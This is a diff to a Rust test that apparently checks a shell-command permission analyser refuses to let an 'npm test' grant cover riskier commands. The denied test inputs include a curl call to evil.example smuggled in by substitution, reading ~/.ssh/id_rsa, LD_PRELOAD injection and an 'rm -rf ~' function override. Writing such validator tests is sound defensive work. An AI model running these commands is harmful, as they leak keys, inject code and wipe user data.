@@ -350,7 +350,10 @@ fn a_prefix_grant_never_allows_more_than_the_analysis_of_each_segment() {
         (npm_test, "npm test $(curl evil.example)", false),
         // Findings of the segment itself that a grant never covers.
         (npm_test, "npm test > out.txt", false),
-        (npm_test, "npm test < input", false),
+        // (`< input` inside the working directory reads like an operand since issue 12; from
+        // outside it, or from a secret, `<` still asks.)
+        (npm_test, "npm test < ../input", false),
+        (npm_test, "npm test < ~/.ssh/id_rsa", false),
         (npm_test, "LD_PRELOAD=/tmp/x.so npm test", false),
         (npm_test, "npm() { rm -rf ~; }; npm test", false),
         // Findings that belong to no segment.
